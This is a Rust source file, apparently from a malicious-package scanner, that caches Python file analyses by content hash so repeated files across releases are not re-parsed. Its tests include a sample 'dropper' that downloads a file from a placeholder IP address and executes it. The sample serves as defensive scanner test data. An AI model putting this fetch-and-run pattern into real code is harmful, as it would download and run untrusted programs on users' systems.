//! Analyses of Python files kept by content, so that a scan reuses what an earlier scan of the
//! same bytes found instead of parsing them again.
//!
//! A release's wheels repeat its sdist's modules byte for byte (`twine upload dist/*` sends them
//! one after the other), platform wheels repeat each other's, and a new version repeats most of
//! the last one. The Python analysis of a file depends on nothing but its bytes and how the scan
//! treats it (where it runs, whether it is a `.pth` file, whether its parse is allowed), so those
//! make the key; the bytes enter it as their SHA-256, which nobody can make collide with another
//! file's. The member's path is only a label on the findings and is put back on each reuse.
//!
//! Bounded: entries are weighed by an estimate of their heap size and the oldest go first once
//! the budget is spent. A budget of 0 keeps nothing.

use std::collections::{HashMap, VecDeque};
use std::sync::{Arc, Mutex};

use sha2::{Digest, Sha256};

use crate::Context;
use crate::python::{self, ModuleFacts};
use crate::report::Finding;

/// What [`python::analyze`] found in one file, without the file's path.
#[derive(Clone, Debug)]
pub(crate) struct Analysis {
    pub findings: Vec<Finding>,
    pub module: Option<ModuleFacts>,
    pub has_network: bool,
    pub runs_programs: bool,
    pub parse_later: bool,
}

#[derive(Clone, Copy, PartialEq, Eq, Hash)]
struct Key {
    digest: [u8; 32],
    ctx: Context,
    is_pth: bool,
    parse_allowed: bool,
    /// A late parse for the package-level facts only ([`python::parse_module`]).
    module_only: bool,
}

#[derive(Default)]
struct Entries {
    map: HashMap<Key, Arc<Analysis>>,
    /// Keys oldest first, with the weight each was admitted with.
    order: VecDeque<(Key, usize)>,
    bytes: usize,
}

pub(crate) struct Reuse {
    budget: usize,
    entries: Mutex<Entries>,
}

impl Reuse {
    pub fn new(budget: usize) -> Self {
        Self { budget, entries: Mutex::new(Entries::default()) }
    }

    /// The analysis of `data` at `path`, reused when the same bytes were analysed the same way.
    pub fn analyze(&self, path: &str, data: &[u8], ctx: Context, is_pth: bool, parse_allowed: bool) -> Analysis {
        self.reuse_or(path, data, Key { digest: [0; 32], ctx, is_pth, parse_allowed, module_only: false }, || {
            fresh(path, data, ctx, is_pth, parse_allowed)
        })
    }

    /// [`python::parse_module`], reused likewise.
    pub fn parse_module(&self, path: &str, data: &[u8], ctx: Context) -> Option<ModuleFacts> {
        let key = Key { digest: [0; 32], ctx, is_pth: false, parse_allowed: true, module_only: true };
        self.reuse_or(path, data, key, || Analysis {
            findings: Vec::new(),
            module: python::parse_module(path, data, ctx),
            has_network: false,
            runs_programs: false,
            parse_later: false,
        })
        .module
    }

    /// The kept analysis for `key` with `data`'s digest, or `run`'s, kept for next time.
    fn reuse_or(&self, path: &str, data: &[u8], mut key: Key, run: impl FnOnce() -> Analysis) -> Analysis {
        if self.budget == 0 {
            return run();
        }
        key.digest = Sha256::digest(data).into();
        let found = self.entries.lock().ok().and_then(|e| e.map.get(&key).cloned());
        if let Some(kept) = found {
            let mut analysis = Analysis::clone(&kept);
            for f in &mut analysis.findings {
                f.path = path.to_string();
            }
            return analysis;
        }
        let analysis = run();
        let weight = weight(&analysis);
        // One huge analysis (a generated module of thousands of functions) would push out
        // everything else for little gain.
        if weight <= self.budget / 8
            && let Ok(mut e) = self.entries.lock()
            && !e.map.contains_key(&key)
        {
            while e.bytes + weight > self.budget {
                let Some((old, w)) = e.order.pop_front() else { break };
                e.map.remove(&old);
                e.bytes -= w;
            }
            e.map.insert(key, Arc::new(analysis.clone()));
            e.order.push_back((key, weight));
            e.bytes += weight;
        }
        analysis
    }

    /// How many analyses are kept (for tests).
    #[cfg(test)]
    fn len(&self) -> usize {
        self.entries.lock().map(|e| e.map.len()).unwrap_or(0)
    }
}

fn fresh(path: &str, data: &[u8], ctx: Context, is_pth: bool, parse_allowed: bool) -> Analysis {
    let mut facts = python::analyze(path, data, ctx, is_pth, parse_allowed);
    Analysis {
        has_network: facts.has_network(),
        runs_programs: facts.runs_programs(),
        findings: std::mem::take(&mut facts.findings),
        module: facts.module.take(),
        parse_later: facts.parse_later,
    }
}

/// An estimate of an analysis's heap size: its strings plus a fixed cost per item.
fn weight(a: &Analysis) -> usize {
    const ITEM: usize = 64;
    let findings: usize = a.findings.iter().map(|f| ITEM + f.rule.len() + f.path.len() + f.excerpt.len() + f.message.len()).sum();
    let module = a.module.as_ref().map_or(0, |m| {
        m.calls.iter().map(|c| ITEM + c.excerpt.len() + c.caps.len()).sum::<usize>()
            + m.fn_caps.iter().map(|(name, caps)| ITEM + name.len() + caps.len()).sum::<usize>()
            + m.imports.iter().map(|i| ITEM + i.module.len() + i.names.iter().map(|n| n.len() + 24).sum::<usize>()).sum::<usize>()
            + m.called.iter().map(|(name, _, _)| ITEM + name.len()).sum::<usize>()
    });
    256 + findings + module
}

#[cfg(test)]
mod tests {
    use super::*;

    const DROPPER: &[u8] =
        b"import os, urllib.request\nurllib.request.urlretrieve('http://203.0.113.9/x', '/tmp/x')\nos.system('/tmp/x')\n";

    #[test]
    fn a_reused_analysis_equals_a_fresh_one_with_the_new_path() {
        let reuse = Reuse::new(1 << 20);
        let first = reuse.analyze("pkg-1.0/setup.py", DROPPER, Context::Install, false, true);
        assert!(!first.findings.is_empty(), "the dropper is found");
        let again = reuse.analyze("other-2.0/setup.py", DROPPER, Context::Install, false, true);
        let expected = fresh("other-2.0/setup.py", DROPPER, Context::Install, false, true);
        assert_eq!(reuse.len(), 1, "the second scan found the first one's analysis");
        assert_eq!(format!("{:?}", again), format!("{:?}", expected));
        assert!(again.findings.iter().all(|f| f.path == "other-2.0/setup.py"));
    }

    #[test]
    fn how_a_file_is_treated_is_part_of_the_key() {
        let reuse = Reuse::new(1 << 20);
        let install = reuse.analyze("setup.py", DROPPER, Context::Install, false, true);
        let tests = reuse.analyze("tests/helper.py", DROPPER, Context::TestOrDocs, false, true);
        assert_eq!(reuse.len(), 2);
        let weight = |a: &Analysis| a.findings.iter().map(|f| f.weight).sum::<f64>();
        assert!(weight(&tests) < weight(&install), "test code weighs less: {} vs {}", weight(&tests), weight(&install));
        let unparsed = reuse.analyze("setup.py", DROPPER, Context::Install, false, false);
        assert_eq!(reuse.len(), 3);
        assert!(unparsed.module.is_none() || unparsed.module.as_ref().is_some_and(|m| m.calls.is_empty()));
    }

    #[test]
    fn the_budget_bounds_what_is_kept() {
        let reuse = Reuse::new(8 * 1024);
        for i in 0..200 {
            let src = format!("import os\nos.system('echo {i}')\n");
            reuse.analyze("m.py", src.as_bytes(), Context::Module, false, true);
        }
        let e = reuse.entries.lock().unwrap();
        assert!(e.bytes <= 8 * 1024, "{} bytes kept", e.bytes);
        assert!(!e.map.is_empty() && e.map.len() < 200, "{} entries", e.map.len());
        assert_eq!(e.map.len(), e.order.len());
        drop(e);
        let none = Reuse::new(0);
        none.analyze("m.py", DROPPER, Context::Module, false, true);
        assert_eq!(none.len(), 0);
    }
}
